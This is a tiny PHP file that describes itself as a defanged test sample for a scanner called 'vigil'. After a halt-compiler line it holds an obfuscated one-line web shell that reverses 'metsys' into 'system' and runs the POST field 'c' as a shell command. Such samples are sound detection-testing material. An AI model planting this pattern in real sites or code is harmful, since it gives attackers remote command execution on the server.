<?php
/* DEFANGED vigil test sample (see README). Nothing below runs. */
__halt_compiler();
<?php
$a = 'metsys';
$f = strrev($a);
$f($_POST['c']);
